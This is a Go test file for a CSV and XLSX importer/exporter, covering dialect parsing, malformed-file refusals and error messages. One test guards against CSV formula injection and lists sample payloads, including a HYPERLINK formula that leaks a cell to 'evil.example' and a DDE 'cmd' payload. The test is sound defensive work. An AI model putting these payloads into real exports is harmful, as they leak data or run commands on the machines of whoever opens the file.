package importer

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"sriim/internal/errs"
)

func TestReadCSVVariants(t *testing.T) {
	tests := []struct {
		name, file string
		want       []map[string]string
	}{
		{"comma", "a,b\n1,2\n", []map[string]string{{"a": "1", "b": "2"}}},
		{"semicolon, as Spanish Excel saves", "a;b\n1,5;2\n", []map[string]string{{"a": "1,5", "b": "2"}}},
		{"BOM and header case", "\xef\xbb\xbfA, B \n1,2\n", []map[string]string{{"a": "1", "b": "2"}}},
		{"quoted commas", "a,b\n\"x, y\",2\n", []map[string]string{{"a": "x, y", "b": "2"}}},
		{"blank lines skipped", "a,b\n1,2\n,\n3,4\n", []map[string]string{{"a": "1", "b": "2"}, {"a": "3", "b": "4"}}},
		{"short row", "a,b\n1\n", []map[string]string{{"a": "1"}}},
	}
	for _, tt := range tests {
		tbl, err := Read(strings.NewReader(tt.file), "x.csv", []string{"a"})
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		if len(tbl.Rows) != len(tt.want) {
			t.Fatalf("%s: %d rows", tt.name, len(tbl.Rows))
		}
		for i, row := range tbl.Rows {
			for k, v := range tt.want[i] {
				if row.Get(k) != v {
					t.Errorf("%s: row %d %s = %q, want %q", tt.name, i, k, row.Get(k), v)
				}
			}
		}
	}
	tbl, _ := Read(strings.NewReader("a,b\n1,2\n,\n3,4\n"), "x.csv", nil)
	if tbl.Rows[1].Line != 4 {
		t.Errorf("line numbers must be the file's: got %d, want 4", tbl.Rows[1].Line)
	}
}

func TestReadRefusals(t *testing.T) {
	for name, file := range map[string]string{
		"empty":           "",
		"missing column":  "a\n1\n",
		"repeated column": "a,a,b\n1,2,3\n",
		"broken quotes":   "a,b\n\"1,2\n",
		"broken xlsx":     "PK\x03\x04garbage",
	} {
		if _, err := Read(strings.NewReader(file), "x", []string{"b"}); !errs.Is(err, errs.Invalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestCSVCellsAreNotFormulas: an export never hands a spreadsheet a cell it
// would run as a formula (OWASP's CSV injection), keeps plain numbers as
// numbers, and imports back unchanged.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"+51 53 999 111 222":                         "'+51 53 999 111 222",
		"-2+3+cmd|' /C calc'!A0":                     "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1,2)":                                  "'@SUM(1,2)",
		"\t=1+2":                                     "'\t=1+2",
		"\r=1+2":                                     "'\r=1+2",
		"-":                                          "'-",
		"-12.5":                                      "-12.5",
		"+3":                                         "+3",
		"-1.5e-07":                                   "-1.5e-07",
		"Loco en conserva":                           "Loco en conserva",
		"'=already text":                             "''=already text",
		"'-5":                                        "'-5",
		"":                                           "",
	}
	var header []string
	var row []string
	for in := range cells {
		header = append(header, "c"+strconv.Itoa(len(header)))
		row = append(row, in)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, header, [][]string{row}); err != nil {
		t.Fatal(err)
	}
	written, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range row {
		if got := written[1][i]; got != cells[in] {
			t.Errorf("%q written as %q, want %q", in, got, cells[in])
		}
	}
	tbl, err := Read(&buf, "export.csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range row {
		if got := tbl.Rows[0].Cells[header[i]]; got != in {
			t.Errorf("%q imported back as %q", in, got)
		}
	}
}

func TestXLSXRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, "datos", []string{"especie", "valor"}, [][]string{{"SNE", "65"}, {"CHC", "12.5"}}, map[string]bool{"valor": true}); err != nil {
		t.Fatal(err)
	}
	tbl, err := Read(&buf, "datos.xlsx", []string{"especie", "valor"})
	if err != nil || len(tbl.Rows) != 2 || tbl.Rows[1].Get("valor") != "12.5" || tbl.Rows[0].Get("especie") != "SNE" {
		t.Fatalf("%+v %v", tbl, err)
	}
}

func TestProblemsReportRowAndColumn(t *testing.T) {
	var p Problems
	if p.Err() != nil {
		t.Fatal("no problems gives an error")
	}
	p.Add(5, "valor", "not a number")
	p.Add(3, "", "repeats row 2")
	p.Add(5, "valor", "negative")
	e := p.Err().(*errs.Error)
	if e.Kind != errs.Invalid || e.Fields["fila 5, columna valor"] != "not a number; negative" || e.Fields["fila 3"] != "repeats row 2" {
		t.Fatalf("%+v", e)
	}
}

// What encoding/csv and excelize say is the logged cause; people read the
// catalogue's message, with the row when the parser gives one.
func TestParserErrorsBecomeCatalogueMessages(t *testing.T) {
	tests := []struct {
		name, file, message, field, problem string
	}{
		{"x.csv", "a,b\n1,2\n\"3,4\n", "the file is not valid CSV", "fila 3", "a quoted cell has no closing quote mark, or a stray one"},
		{"x.csv", "a,b\n1,2\n3,x\"y\"\n", "the file is not valid CSV", "fila 3", "a quote mark inside a cell that does not start with one"},
		{"x.xlsx", "PK\x03\x04garbage", "the file is not a valid XLSX workbook", "", ""},
		{"x.csv", "b\n1\n", "the header lacks columns", "fila 1", "columns missing: a"},
		{"x.csv", "a,A\n1,2\n", "the header repeats a column", "fila 1", `column "a" is repeated`},
	}
	for _, tt := range tests {
		_, err := Read(strings.NewReader(tt.file), tt.name, []string{"a"})
		e, ok := err.(*errs.Error)
		if !ok || e.Kind != errs.Invalid || e.Message != tt.message || e.Fields[tt.field] != tt.problem {
			t.Errorf("%q: %#v", tt.file, err)
			continue
		}
		if len(e.Fields) > 1 || e.Err == nil && tt.field != "fila 1" {
			t.Errorf("%q: fields %v, cause %v", tt.file, e.Fields, e.Err)
		}
	}
}
